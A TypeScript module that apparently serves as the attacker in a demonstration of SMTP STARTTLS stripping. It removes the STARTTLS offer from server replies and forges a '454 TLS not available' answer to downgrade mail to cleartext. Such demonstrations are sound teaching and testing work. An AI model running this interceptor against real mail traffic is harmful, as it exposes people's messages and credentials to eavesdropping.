/**
 * What the demo's attacker does (RFC 3207 §4, the "STARTTLS stripping" attack of RFC 7672
 * §1.3 and RFC 8461 §1): the EHLO reply reaches the client without the STARTTLS line, so a
 * client that uses TLS only when offered talks in cleartext; a client that asks for STARTTLS
 * anyway gets "454 TLS not available" from the attacker itself, never the real server.
 * Everything else passes unchanged.
 */

/** The attacker's own answer to a STARTTLS that it keeps from the server (RFC 3207 §4). */
export const TLS_NOT_AVAILABLE = '454 4.7.0 TLS not available due to temporary reason\r\n';

/** A client command the attacker keeps from the server: a STARTTLS on its own. */
export function isStartTlsCommand(bytes: Buffer): boolean {
  return /^STARTTLS\r\n$/i.test(bytes.toString('latin1'));
}

/** One complete SMTP reply (RFC 5321 §4.2.1: "ddd-" continuation lines, a final "ddd "). */
export function stripStartTlsOffer(reply: string): string {
  const lines = reply.split('\r\n').filter((line) => line.length > 0);
  const kept = lines.filter((line) => !/^250[- ]STARTTLS\s*$/i.test(line));
  if (kept.length === lines.length) return reply;
  // The separators are rewritten so the last remaining line is the final one.
  return kept
    .map((line, i) => `${line.slice(0, 3)}${i === kept.length - 1 ? ' ' : '-'}${line.slice(4)}\r\n`)
    .join('');
}

/**
 * A server-to-client byte stream rewriter: holds bytes until a whole reply has arrived (a
 * reply can be split across TCP segments), then passes it on without the STARTTLS offer.
 * Returns what to send on; `removed` counts the offers taken out.
 */
export function createStartTlsStripper(): {
  push(bytes: Buffer): Buffer;
  intercept(bytes: Buffer): Buffer | null;
  readonly removed: number;
} {
  let pending = '';
  let removed = 0;
  return {
    intercept: (bytes) => (isStartTlsCommand(bytes) ? Buffer.from(TLS_NOT_AVAILABLE) : null),
    get removed() {
      return removed;
    },
    push(bytes) {
      pending += bytes.toString('latin1');
      let out = '';
      // A reply ends with its final line: three digits, a space (or nothing), text, CRLF.
      for (let end = finalLineEnd(pending); end >= 0; end = finalLineEnd(pending)) {
        const reply = pending.slice(0, end);
        pending = pending.slice(end);
        const stripped = stripStartTlsOffer(reply);
        if (stripped !== reply) removed++;
        out += stripped;
      }
      return Buffer.from(out, 'latin1');
    },
  };
}

function finalLineEnd(text: string): number {
  let start = 0;
  for (let eol = text.indexOf('\r\n'); eol >= 0; eol = text.indexOf('\r\n', start)) {
    const line = text.slice(start, eol);
    start = eol + 2;
    if (/^\d{3}(?: |$)/.test(line)) return start;
  }
  return -1;
}
